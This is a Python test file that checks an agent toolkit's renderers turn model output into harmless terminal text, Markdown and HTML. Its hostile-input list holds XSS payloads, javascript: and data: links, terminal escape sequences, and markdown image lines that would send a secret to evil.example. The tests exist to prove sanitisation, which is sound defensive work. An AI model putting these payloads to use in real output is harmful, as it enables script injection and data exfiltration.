"""What a model writes is shown in each sink, and obeyed in none."""

import hashlib
import re
import subprocess
import sys
import unicodedata
from html.parser import HTMLParser
from io import BytesIO

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from PIL import Image as Pillow

from agentkit.show import html, markdown, plain
from agentkit.values import File, Image, ImageFailure, MemoryBlobs, Source, Text, replace
from tests.clock import GUARD
from tests.conftest import examples

HOSTILE = [
    "<script>alert(1)</script>",
    "</div></body><img src=x onerror=alert(1)>",
    "<!-- swallowed",
    "<?php ?><!DOCTYPE x><![CDATA[y]]>",
    "![stolen](https://evil.example/?q=secret)",
    "!![stolen](https://evil.example/a.png)",
    "\\![a](https://evil.example/a.png) \\\\![b](https://evil.example/b.png)",
    "![ref][r]\n\n[r]: https://evil.example/r.png",
    "![r]\n\n[r]: https://evil.example/r.png",
    "[![a](https://evil.example/a.png)](https://evil.example/)",
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
    "[b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "\x1b]0;title\x07\x1b[2J\x9b31m\x00\x7f",
    "\u202eevil\u2066\u200f\u061c",
    "```\n<b>\n   ```\n```\n<img src=x>",
    "- a\n\n  ```\nfoo <script>x</script>",
    "[a](`) <img src=x> `",
    "| ` | <img src=x> ` |\n|---|---|",
    "a ` b\n` <img src=x> `",
    "`` ` <img src=x> ``` ",
    "\\`<b>` `",
    "    ```\n<img src=x>\n    ```",
    "\ud800 lone",
]
CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f\u2028\u2029\ud800-\udfff]"
)
nasty = st.text(
    alphabet=[*"`~<>![]()\\|:-*_ \n\t#ab/\"'=&;.1", "\x1b", "\u202e", "\r"], max_size=60
)


def png(colour: str = "orange") -> bytes:
    buffer = BytesIO()
    Pillow.new("RGB", (4, 3), colour).save(buffer, "PNG")
    return buffer.getvalue()


def picture(**fields: object) -> Image:
    data = png()
    made = Image(
        hashlib.sha256(data).hexdigest(),
        "image/png",
        len(data),
        4,
        3,
        name="img_1",
        blobs=MemoryBlobs(data),
    )
    return type(made)(
        **(
            {name: getattr(made, name) for name in made.__dataclass_fields__ if name != "kind"}
            | fields
        )
    )  # type: ignore[arg-type]


class Page(HTMLParser):
    """What a browser would make of a fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!--", {"data": data}))

    def handle_data(self, data: str) -> None:
        self.words += data


def tokens(text: str) -> list[str]:
    """The kinds of token that a renderer which allows HTML finds."""
    parsed = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
    return [each.type for token in parsed for each in (token, *(token.children or ()))]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "sink", [plain.terminal, markdown.prose, markdown.inline, html.text, html.prose]
)
def test_no_sink_lets_a_control_character_through(text: str, sink: object) -> None:
    shown = sink(text)  # type: ignore[operator]
    assert not CONTROLS.search(shown)
    shown.encode()


def test_controls_are_shown_as_what_they_are() -> None:
    assert plain.terminal("a\x1b[31m\x9b\u202e\x7f\x00\ud800") == "a␛[31m\\x9b\\u202e␡␀\ufffd"
    assert plain.terminal("tab\tand\nline\r\nend") == "tab\tand\nline\nend"
    assert plain.terminal("overwritten\rby this") == "overwritten␍by this"


def test_writing_of_the_world_is_untouched() -> None:
    text = "Ünïcödé שלום مرحبا 狐 🦊 👩‍👩‍👧 e\u0301"
    assert plain.terminal(text) == text
    assert html.text(text) == text


@given(st.text(max_size=80))
def test_a_terminal_gets_only_what_it_can_print(text: str) -> None:
    shown = plain.terminal(text)
    assert all(char in "\n\t" or unicodedata.category(char) != "Cc" for char in shown)


def test_a_line_stays_one_line() -> None:
    assert plain.line("a\n\n b\tc") == "a b c"
    assert plain.line("x" * 300, width=10) == "x" * 9 + "…"


def test_plain_answer_names_its_pictures() -> None:
    parts = (Text("A fox.\n"), picture(alt="a fox\x1b"), Text("Done."))
    assert (
        plain.answer(parts, (ImageFailure(Source("data"), None, "404"),))
        == "A fox.\n\n[img_1 4×3: a fox␛]\n\nDone.\n\n[no picture: 404]"
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_has_no_html_and_no_picture_of_the_models(text: str) -> None:
    assert not {"html_block", "html_inline", "image"} & set(tokens(markdown.prose(text)))


@settings(max_examples=examples(100), deadline=None)
@given(nasty)
@example("[a](`) <b> `")
@example("`!`[a](/u)")
def test_markdown_of_any_text_has_no_html_and_no_picture(text: str) -> None:
    shown = markdown.answer((Text(text), picture()))
    found = tokens(shown)
    assert not {"html_block", "html_inline"} & set(found)
    assert found.count("image") <= 1


@settings(max_examples=examples(50), deadline=None)
@given(nasty)
def test_markdown_in_one_line_is_words_alone(text: str) -> None:
    found = set(tokens("x " + markdown.inline(text) + " x"))
    assert found <= {"paragraph_open", "inline", "text", "text_special", "paragraph_close"}


@pytest.mark.parametrize(
    "text",
    [
        "**Bold**, _soft_, [a link](https://example.org), 1 < 2 and a > b!",
        "Use `List<String>` here.\n\n```html\n<b>![x](y)</b>\n```\n\nand `<i>` there.",
        "~~~\n<script>\n~~~",
        "# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_markdown_keeps_what_is_harmless(text: str) -> None:
    assert markdown.prose(text) == text


def test_markdown_answer_in_order() -> None:
    failure = ImageFailure(Source("text"), "https://x", "the *server* said 404\n<b>")
    shown = markdown.answer(
        (
            Text("Before:"),
            picture(prompt="a [red] fox\n<b>"),
            Text("```\nopen"),
            picture(name="img 2/.."),
        ),
        (failure,),
    )
    assert shown == (
        "Before:\n\n![a \\[red\\] fox \\<b\\>](images/img_1.png)\n\n```\nopen\n```\n\n![img 2/..](images/"
        f"{hashlib.sha256(png()).hexdigest()[:12]}.png)\n\n"
        "> No picture: the \\*server\\* said 404 \\<b\\>\n"
    )


def test_markdown_links_to_an_svg() -> None:
    assert (
        markdown.picture(picture(media_type="image/svg+xml"), folder="my images")
        == "[img_1](my%20images/img_1.svg)"
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_gets_no_markup_of_the_models(text: str) -> None:
    page = Page(
        html.answer((Text(text), picture(alt=text)), (ImageFailure(Source("data"), None, text),))
    )
    allowed = {
        "div",
        "p",
        "a",
        "figure",
        "img",
        "figcaption",
        "small",
        "code",
        "pre",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    assert {tag for tag, _ in page.tags} <= allowed
    images = [attributes for tag, attributes in page.tags if tag == "img"]
    assert len(images) == 1
    assert str(images[0]["src"]).startswith("data:image/png;base64,")
    assert set(images[0]) == {"src", "alt", "style"}
    for attributes in (attributes for tag, attributes in page.tags if tag == "a"):
        assert set(attributes) == {"href", "rel"}
        assert str(attributes["href"]).startswith(("http://", "https://", "mailto:"))
        assert attributes["rel"] == "noopener noreferrer nofollow"


@settings(max_examples=examples(50), deadline=None)
@given(nasty)
def test_a_page_of_any_text_has_no_picture(text: str) -> None:
    assert not {"img", "script", "!--"} & {tag for tag, _ in Page(html.prose(text)).tags}


def test_a_remote_picture_is_a_link() -> None:
    assert html.prose("![a fox](https://example.org/fox.png)") == (
        '<p><a href="https://example.org/fox.png" rel="noopener noreferrer nofollow">a fox</a></p>\n'
    )
    assert (
        html.prose("[![a fox](https://example.org/fox.png)](https://example.org)").count("<a ") == 1
    )


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "file:///etc/passwd",
        "vbscript:x",
    ],
)
def test_links_lead_to_the_web_alone(url: str) -> None:
    assert "<a" not in html.prose(f"[a]({url})")


def test_headings_fit_into_a_page() -> None:
    assert html.prose("# A\n\n##### B") == "<h3>A</h3>\n<h6>B</h6>\n"


def test_an_svg_is_never_inlined() -> None:
    data = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    svg = Image(
        hashlib.sha256(data).hexdigest(),
        "image/svg+xml",
        len(data),
        name="img_1",
        blobs=MemoryBlobs(data),
    )
    shown = html.answer((svg,))
    assert "img_1" in shown
    assert {tag for tag, _ in Page(shown).tags} == {"div", "figure", "figcaption", "small", "p"}


def test_a_picture_whose_bytes_are_gone_is_told_in_words() -> None:
    shown = html.answer((picture(blobs=MemoryBlobs(b"")),))
    assert "no longer in the store" in shown
    assert "<img" not in shown


def test_amounts_for_people() -> None:
    assert [plain.dollars(each) for each in (None, 0.0, 0.01234, 2.5)] == [
        "–",
        "$0.00",
        "$0.0123",
        "$2.50",
    ]
    assert [plain.duration(each) for each in (None, 0.0123, 3.44, 125.0)] == [
        "–",
        "12 ms",
        "3.4 s",
        "2 min 5 s",
    ]
    assert [plain.kilobytes(each) for each in (12, 34_100, 1_200_000)] == [
        "12 B",
        "34 kB",
        "1.2 MB",
    ]


def test_without_markdown_it_words_are_escaped_paragraphs() -> None:
    code = (
        "import sys; sys.modules['markdown_it'] = None\n"
        "from agentkit.show import html\nprint(html.prose('a <b>\\n\\n![x](https://example.org)'), end='')"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=GUARD, check=True
    )
    assert done.stdout == "<p>a &lt;b&gt;</p><p>![x](https://example.org)</p>"


@pytest.mark.parametrize("words", HOSTILE)
def test_files_are_named_and_never_active(words: str) -> None:
    page = b"<!doctype html><script>alert(1)</script>"
    file = replace(File.from_bytes(page, name="page.html"), name="file_1", file_name=words)
    shown = html.answer([Text("See.")], files=[file])
    assert '<p class="agentkit-file">file_1 (' in shown
    assert "<script" not in shown
    assert "<a" not in shown.split('<p class="agentkit-file">')[1]
    assert "data:" not in shown.replace(html.text(words), "")
    saved = markdown.answer([Text("See.")], files=[file])
    assert saved.startswith("See.\n\n- file_1 (")
    rendered = MarkdownIt("commonmark", {"html": True}).render(saved)
    assert not re.search(r"<(?:script|img|a|b|div)\b", rendered), rendered


def test_a_file_that_could_not_be_had_is_no_picture() -> None:
    failure = ImageFailure(Source("file"), None, "the file 'a.txt': gone")
    assert "No file: the file &#x27;a.txt&#x27;: gone" in html.answer([], [failure])
    assert "> No file: the file 'a.txt': gone" in markdown.answer([], [failure])
